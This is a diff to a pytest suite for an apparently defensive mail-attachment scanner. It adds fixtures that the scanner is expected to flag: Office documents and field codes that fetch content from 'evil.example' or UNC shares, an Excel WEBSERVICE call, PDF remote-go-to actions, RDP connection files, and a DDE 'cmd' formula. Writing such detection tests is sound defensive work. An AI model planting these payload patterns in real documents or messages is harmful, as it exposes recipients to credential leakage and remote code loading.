@@ -2,13 +2,15 @@
 
 from __future__ import annotations
 
+import base64
 import bz2
 import gzip
 import lzma
+import quopri
 import zipfile
 
 import pytest
-from tests.mail_of import PROGRAM, attached, found_in, iso, names_in, pdf, tar_header, zipped
+from tests.mail_of import HEAD, PROGRAM, attached, found_in, iso, names_in, pdf, tar_header, zipped
 
 from wardmail.content.inspection import inspect
 from wardmail.content.inspection.magic import detect
@@ -155,6 +157,22 @@ def test_archives_in_archives_without_end_are_told() -> None:
         (b'<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>', "svg-script"),
         (b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"></svg>', "svg-script"),
         (b"=cmd|'/c calc'!A1\n", "office-dde"),
+        (docx(**{RELS: RELATIONS % (b"aFChunk", b"http://evil.example/a.rtf")}), "office-external"),
+        (docx(**{RELS: RELATIONS % (b"image", b"file:///\\\\10.0.0.5\\s\\a.png")}), "office-external"),
+        (docx(word__a_xml=b"<w:instrText>INCLUDEPICTURE \\d \"\\\\\\\\evil.example\\\\a.png\"</w:instrText>"), "office-external"),
+        (docx(word__a_xml=b"<w:instrText>INCLUDETEXT \"http://evil.example/a.docx\"</w:instrText>"), "office-external"),
+        (zipped({"xl/workbook.xml": b"", "xl/connections.xml": b'<connection refreshOnLoad="1"/>'}), "office-external"),
+        (zipped({"xl/workbook.xml": b"", "xl/worksheets/s.xml": b'<f>_xlfn.WEBSERVICE("http://e")</f>'}), "office-external"),
+        (zipped({"mimetype": b"application/vnd.oasis.opendocument.text",
+                 "content.xml": b'<draw:image xlink:href="file://evil.example/a.png"/>'}, zipfile.ZIP_STORED), "office-external"),
+        (pdf(b"<</OpenAction<</S/GoToR/F(\\\\\\\\evil.example\\\\a)/D[0]>>>>"), "pdf-remote"),
+        (pdf(b"<</AA<</O<</S/GoToE/F<5C5C6576696C5C61>>>>>>>>"), "pdf-remote"),
+        (b"full address:s:evil.example\r\nprompt:i:0\r\n", "type-shortcut"),
+        (b"screen mode id:i:2\r\nfull address:s:evil.example\r\nprompt:i:0\r\n", "type-shortcut"),
+        (b"[Theme]\r\nDisplayName=x\r\n", "type-settings"),
+        (b"MSWIM\0\0\0" + b"\0" * 99, "type-disk-image"),
+        (b"\xeb\x3c\x90MSDOS5.0" + b"\0" * 600, "type-disk-image"),
+        (b"\0" * 600 + b"koly" + b"\0" * 508, "type-disk-image"),
     ],
 )  # fmt: skip
 def test_documents_that_act(content: bytes, finding: str) -> None:
@@ -163,7 +181,14 @@ def test_documents_that_act(content: bytes, finding: str) -> None:
 
 @pytest.mark.parametrize(
     "content",
-    [docx(), pdf(b"<</Type/Catalog>>"), zipped({"a.txt": b"x"}), b"a,b\n1,-2\n", b"\x89PNG\r\n\x1a\n" + b"\0" * 99],
+    [
+        docx(),
+        pdf(b"<</Type/Catalog>>"),
+        zipped({"a.txt": b"x"}),
+        b"a,b\n1,-2\n",
+        b"\x89PNG\r\n\x1a\n" + b"\0" * 99,
+        b"MZ is what stands on the cars of the country, and nothing more than that, as you see here.",
+    ],
 )
 def test_harmless_files_stay_without_findings(content: bytes) -> None:
     assert found_in(attached(content, "letter")) == set()
@@ -187,6 +212,12 @@ def test_harmless_files_stay_without_findings(content: bytes) -> None:
         ("x.iqy", "type-query"),
         ("x.lnk", "type-shortcut"),
         ("disk.img", "type-disk-image"),
+        ("x.py", "type-script"),
+        ("x.scpt", "type-script"),
+        ("x.odc", "type-query"),
+        ("x.mobileconfig", "type-settings"),
+        ("x.appinstaller", "type-executable"),
+        ("x.printerexport", "type-executable"),
     ],
 )
 def test_names_that_deceive_or_run(name: str, finding: str) -> None:
@@ -216,3 +247,23 @@ def test_a_page_is_a_page_however_late_it_begins() -> None:
     late = b" " * 10_000 + b"<form><input type=password></form>"
     assert "html-credential-page" in found_in(attached(late, "login.html"))
     assert "svg-script" in found_in(attached(b" " * 10_000 + b"<svg onload=x()>", "a.svg"))
+
+
+@pytest.mark.parametrize("encoding", ["base64", "quoted-printable"])
+@pytest.mark.parametrize("kind", [b"Content-Type: text/plain\r\n", b""])
+def test_a_program_as_the_text_of_a_message_is_a_program(kind: bytes, encoding: str) -> None:
+    encode = base64.encodebytes if encoding == "base64" else quopri.encodestring
+    body = encode(PROGRAM).replace(b"\n", b"\r\n")
+    field = f"Content-Transfer-Encoding: {encoding}\r\n\r\n".encode()
+    assert "type-executable" in found_in(HEAD + kind + field + body)
+
+
+def test_a_document_of_several_files_is_no_attack() -> None:
+    book = pdf(b"<</Type/Catalog/OpenAction 2 0 R>>", b"<</S/GoToR/F(chapter 2.pdf)>>")
+    assert found_in(attached(book, "a.pdf")) == {"pdf-action"}
+
+
+def test_a_text_about_scripts_is_a_text() -> None:
+    for words in (b"@echo off\r\ndel x", b"[Desktop Entry]\r\nExec=x", b"WEB\r\n1\r\nhttp://x", b"REGEDIT4"):
+        assert "type-script" not in found_in(HEAD + b"Content-Type: text/plain\r\n\r\n" + words)
+        assert not {each for each in found_in(HEAD + b"\r\n" + words) if each.startswith("type-")}
